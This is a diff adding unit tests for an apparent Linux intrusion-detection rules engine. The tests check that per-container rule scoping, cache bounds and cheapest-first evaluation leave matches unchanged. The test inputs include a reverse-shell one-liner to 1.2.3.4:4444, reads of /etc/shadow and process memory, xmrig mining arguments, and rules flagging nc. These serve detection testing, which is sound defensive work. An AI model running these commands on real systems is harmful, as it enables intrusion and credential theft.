@@ -1,0 +1,121 @@
+"""Issue 22's rule-matching shortcuts: the rules in scope of a container are decided once per
+container object (and again for a new object or a new rule set), and the parts of an all/any
+are evaluated cheapest first. Neither may change what matches."""
+
+from __future__ import annotations
+
+import dataclasses
+import itertools
+from pathlib import Path
+
+import pytest
+
+from roxd.model import Ancestor, Container, EnrichedEvent, ExecEvent, Process
+from roxd.rules import ruleset as ruleset_mod
+from roxd.rules.active import ActiveRules
+from roxd.rules.compile import cost
+from roxd.rules.fields import EventView
+from tests.unit.test_rules_engine import box, exe_event, hits, load, rule
+
+pytestmark = pytest.mark.unit
+
+SCOPED = rule("t.nc-in-web", body="""
+    [rule.when]
+    exe_basename = "nc"
+    [rule.scope]
+    image = ["web*"]
+    """) + rule("t.nc-anywhere", body="""
+    [rule.when]
+    exe_basename = "nc"
+    [rule.scope]
+    host = false
+    """) + rule("t.tmp", body="""
+    [rule.when]
+    exe = { prefix = "/tmp/" }
+    [rule.scope]
+    image = ["web*"]
+    """)
+
+
+def test_a_container_whose_metadata_changed_is_judged_again(tmp_path: Path) -> None:
+    rules = load(tmp_path, SCOPED)
+    db = box(image="postgres:16")
+    assert hits(rules, exe_event(("nc", "-l"), exe="/bin/nc", container=db)) == [
+        "t.nc-anywhere"]
+    # the runtime's metadata arrived late (or changed): the resolver hands out a new object
+    web = dataclasses.replace(db, image="web:2")
+    assert web.id == db.id
+    assert hits(rules, exe_event(("nc", "-l"), exe="/bin/nc", container=web)) == [
+        "t.nc-in-web", "t.nc-anywhere"]
+    assert hits(rules, exe_event(("/tmp/x",), container=web)) == ["t.tmp"]
+    # the old object still gets its own answer (an event already resolved before the change)
+    assert hits(rules, exe_event(("nc", "-l"), exe="/bin/nc", container=db)) == [
+        "t.nc-anywhere"]
+    assert hits(rules, exe_event(("/tmp/x",), container=db)) == []
+    # the host: an image filter narrows containers only; the container-only rule is out
+    assert hits(rules, exe_event(("nc", "-l"), exe="/bin/nc")) == ["t.nc-in-web"]
+
+
+def test_a_reload_brings_its_own_scopes(tmp_path: Path) -> None:
+    web = box(image="web:1")
+    (tmp_path / "a").mkdir()
+    first = load(tmp_path / "a", SCOPED)
+    assert hits(first, exe_event(("nc",), exe="/bin/nc", container=web)) == [
+        "t.nc-in-web", "t.nc-anywhere"]
+    narrowed = SCOPED.replace('image = ["web*"]', 'image = ["api*"]')
+    (tmp_path / "b").mkdir()
+    second = load(tmp_path / "b", narrowed)
+    assert hits(second, exe_event(("nc",), exe="/bin/nc", container=web)) == ["t.nc-anywhere"]
+    assert hits(first, exe_event(("nc",), exe="/bin/nc", container=web)) == [
+        "t.nc-in-web", "t.nc-anywhere"]  # the old set is unchanged (immutable)
+
+
+def test_the_scope_cache_is_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(ruleset_mod, "MAX_SCOPED_CONTAINERS", 3)
+    rules = load(tmp_path, SCOPED)
+    boxes = [dataclasses.replace(box(image="web:1"), id=f"{i:064x}") for i in range(10)]
+    for b in boxes:
+        assert hits(rules, exe_event(("nc",), exe="/bin/nc", container=b)) == [
+            "t.nc-in-web", "t.nc-anywhere"]
+        assert len(rules._scoped) <= 3
+
+
+def test_cheap_tests_are_ordered_first_and_the_pack_matches_as_before() -> None:
+    """Every shipped rule, with its parts in written order and cheapest first, gives the same
+    answer on a spread of execs (the written order is what the rule author wrote)."""
+    pack = ActiveRules([Path(__file__).resolve().parents[2] / "rules"]).load()
+    web = Container("c" * 64, "docker", "web", "nginx:1.25")
+    shells = ("/bin/sh", "/bin/bash", "/usr/bin/python3", "/tmp/x", "/dev/shm/.x/y",
+              "/usr/bin/curl", "/bin/dd", "/usr/bin/xmrig", "/bin/cat")
+    params = ((), ("/tmp/a.sh",), ("-c", "sh -i >& /dev/tcp/1.2.3.4/4444 0>&1"),
+              ("if=/proc/123/mem",), ("--donate-level", "1"), ("invoice.pdf",),
+              ("-o", "stratum+tcp://pool:3333"), ("/etc/shadow",))
+    parents = ((), (Ancestor(10, "/usr/bin/make", ("make",)),),
+               (Ancestor(10, "/bin/bash", ("bash",)), Ancestor(9, "/usr/bin/pip", ("pip",))))
+    events = []
+    for exe, args, chain, where in itertools.product(shells, params, parents, (None, web)):
+        argv = (exe, *args)
+        ev = ExecEvent(time_ns=1, pid=20, ppid=10, uid=0, gid=0, cgroup_id=5, comm="x",
+                       filename=exe, args=argv, args_truncated=False)
+        proc = Process(pid=20, ppid=10, uid=0, exe=exe, comm="x", args=argv, cgroup_id=5,
+                       ancestors=chain)
+        events.append(EnrichedEvent(ev, where, proc))
+    seen = 0
+    for ev in events:
+        fast = [m.rule.id for m in pack.match(ev)]
+        view = EventView.of(ev)
+        plain = [r.id for r in pack.candidates(ev.kind, view.exe_basename) if r.matches(view)]
+        assert fast == plain
+        seen += bool(fast)
+    assert seen > 20  # the spread reaches many rules, not none
+
+
+def test_cost_puts_the_ancestry_walk_after_the_argv_tests(tmp_path: Path) -> None:
+    from roxd.rules.compile import AllOf, ResolvedTest
+    from roxd.rules.fields import FIELDS
+
+    walk = ResolvedTest(FIELDS["ancestor_basename"], "in", True, ("make",))
+    name = ResolvedTest(FIELDS["exe_basename"], "in", False, ("sh",))
+    regex = ResolvedTest(FIELDS["params"], "regex", False, ("^/tmp/",))
+    assert cost(name) < cost(walk) and cost(name) < cost(regex)
+    assert cost(AllOf((name, regex))) < cost(walk)
